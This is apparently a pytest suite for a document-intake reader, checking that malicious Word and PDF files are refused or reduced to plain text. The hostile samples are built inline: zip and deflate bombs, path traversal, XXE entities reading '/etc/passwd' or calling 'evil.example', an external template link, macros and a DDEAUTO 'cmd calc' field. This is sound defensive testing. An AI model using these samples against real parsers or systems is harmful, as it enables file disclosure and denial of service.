"""Word and PDF files made to harm: refused, or what is in them is text."""

from __future__ import annotations

import os
import warnings
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from gazette.errors import Problem
from gazette.intake import Received, confined, read_file
from tests.cli.arrivals import pack
from tests.hostile.packages import macros, pdf, replace, word


def received(folder: Path, name: str, data: bytes) -> tuple[Received | None, tuple[Problem, ...]]:
    path = folder / name
    path.write_bytes(data)
    return read_file(path)


def refusal(folder: Path, name: str, data: bytes) -> str:
    """Id of the problem that refuses a file."""
    text, (found,) = received(folder, name, data)
    assert text is None
    return found.kind.id


def twice() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the module warns of the very thing
        written = BytesIO(word("<w:t>甲</w:t>"))
        with zipfile.ZipFile(written, "a") as package:
            package.writestr("word/document.xml", "<x/>")
    return written.getvalue()


def encrypted_member() -> bytes:
    data = bytearray(pack({"word/document.xml": b"<x/>"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def spoilt_lzma() -> bytes:
    """A part packed in a way that Word never uses, and damaged."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_LZMA) as package:
        package.writestr("word/document.xml", b"<x>" + b"abc" * 5_000)
    data = bytearray(written.getvalue())
    start = data.index(b"word/document.xml") + 30
    data[start : start + 40] = b"\xff" * 40
    return bytes(data)


def understated() -> bytes:
    """A part that says it unpacks to 4 bytes and unpacks to 33 million."""
    data = bytearray(pack({"word/document.xml": b" " * 33_000_000}))
    place = data.index(b"PK\x01\x02") + 24
    data[place : place + 4] = (4).to_bytes(4, "little")
    return bytes(data)


@pytest.mark.parametrize(
    ("problem", "data"),
    [
        ("intake-bomb", lambda: pack({"word/document.xml": b"<x/>", "word/a.xml": b" " * 33_000_000})),
        ("intake-bomb", lambda: pack({f"word/{number}.xml": b" " * 4_000_000 for number in range(9)} | _body())),
        ("intake-bomb", lambda: pack({f"{number}.png": b"" for number in range(5_001)} | _body())),
        ("intake-broken", understated),
        ("intake-broken", twice),
        ("intake-broken", spoilt_lzma),
        ("intake-broken", encrypted_member),
        ("intake-broken", lambda: word("<w:t>甲</w:t>")[:-30]),
        ("intake-broken", lambda: _nested(b"<w:body>", 9)),
        ("intake-broken", lambda: word('<w:sym w:char="110000"/>')),
        ("intake-broken", lambda: _nested(b"<w:p>", 300)),
        ("intake-entities", lambda: word("<w:t>甲</w:t>", changed=_entity(b'SYSTEM "file:///etc/passwd"'))),
        ("intake-entities", lambda: word("<w:t>甲</w:t>", changed=_entity(b'SYSTEM "http://evil.example/"'))),
        ("intake-entities", lambda: word("<w:t>甲</w:t>", changed=_entity(b'"' + b"&b;" * 99 + b'"'))),
        ("intake-entities", lambda: pack(_body() | {"word/_rels/a.xml.rels": b'<!DOCTYPE a SYSTEM "http://evil.example">'})),
        ("intake-macros", macros),
        ("intake-not-word", lambda: pack({"../../word/document.xml": b"<x/>"})),
    ],
)  # fmt: skip
def test_a_word_file_is_refused(tmp_path: Path, problem: str, data: Callable[[], bytes]) -> None:
    assert refusal(tmp_path, "a.docx", data()) == problem


def _body() -> dict[str, bytes]:
    return {"word/document.xml": b"<x/>"}


def _nested(tag: bytes, times: int) -> bytes:
    return word("<w:t>甲</w:t>", changed=replace("word/document.xml", tag, tag * times))


def _entity(value: bytes) -> Callable[[dict[str, bytes]], None]:
    return replace("word/document.xml", b"<w:document ", b"<!DOCTYPE a [<!ENTITY b " + value + b">]><w:document ")


def test_what_a_word_file_links_to_is_not_asked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:1")
    outside = (
        b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/x.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    data = word("<w:t>甲</w:t>", changed=replace("word/_rels/document.xml.rels", b"</Relationships>", outside))
    text, problems = received(tmp_path, "a.docx", data)
    assert text
    assert text.data.decode() == "甲\n"
    assert problems == ()


@pytest.mark.parametrize(
    ("xml", "text"),
    [
        ("<w:instrText>DDEAUTO cmd calc</w:instrText><w:t>甲</w:t>", "甲\n"),
        ('<w:t>甲</w:t><w:sym w:char="D800"/>', "甲?\n"),
        ("<w:t>&lt;script&gt;</w:t>", "<script>\n"),
        ("<w:t>{{ 7*7 }}</w:t>", "{{ 7*7 }}\n"),
    ],
)
def test_what_stands_in_a_word_file_is_text(tmp_path: Path, xml: str, text: str) -> None:
    read, _ = received(tmp_path, "a.docx", word(xml))
    assert read
    assert read.data.decode() == text


def test_a_number_of_thousands_of_letters_is_written_in_figures(tmp_path: Path) -> None:
    document = docx.Document()
    root = document.part.numbering_part.element
    level = (
        '<w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/></w:lvl>'
    )
    root.insert(0, parse_xml(f'<w:abstractNum {nsdecls("w")} w:abstractNumId="90">{level}</w:abstractNum>'))
    root.append(parse_xml(f'<w:num {nsdecls("w")} w:numId="91"><w:abstractNumId w:val="90"/></w:num>'))
    paragraph = document.add_paragraph("甲")
    paragraph._p.get_or_add_pPr().append(parse_xml(f'<w:numPr {nsdecls("w")}><w:numId w:val="91"/></w:numPr>'))
    document.save(str(tmp_path / "a.docx"))
    read, _ = read_file(tmp_path / "a.docx")
    assert read
    assert read.data.decode() == "2000000000.甲\n"


def zeros(megabytes: int) -> bytes:
    """So many zeros, deflated: the deflated first megabyte again and again, with the checksum of them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((megabytes << 20) % 65521 << 16) | 1
    return b"\x78\xda" + one * megabytes + b"\x03\x00" + checksum.to_bytes(4, "big")


@pytest.mark.parametrize(
    ("problem", "data"),
    [
        ("intake-scan", lambda: pdf(b"")),
        ("intake-scan", lambda: pdf(b"", kids=0)),
        ("intake-scan", lambda: pdf(b"q " * 100_000)),
        ("intake-scan", lambda: pdf(b"[" * 100_000)),
        ("intake-broken", lambda: b"%PDF-1.4\n" + os.urandom(2000)),
        ("intake-broken", lambda: b"%PDF-1.7\n" + b"<<" * 100_000),
    ],
)
def test_a_pdf_is_refused(tmp_path: Path, problem: str, data: Callable[[], bytes]) -> None:
    assert refusal(tmp_path, "a.pdf", data()) == problem


def test_a_pdf_that_unpacks_to_gigabytes_ends_alone(tmp_path: Path) -> None:
    bomb = pdf(zlib.compress(zeros(4_000)), b"/FlateDecode /FlateDecode")
    assert len(bomb) < 20_000
    assert refusal(tmp_path, "a.pdf", bomb) == "intake-bomb"


def test_a_reader_that_never_ends_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confined, "_SECONDS", 0.01)
    assert refusal(tmp_path, "a.pdf", pdf(b"")) == "intake-bomb"


def test_a_file_without_end_is_not_read_to_it() -> None:
    text, (found,) = read_file(Path("/dev/zero"))
    assert text is None
    assert found.kind.id == "file-large"
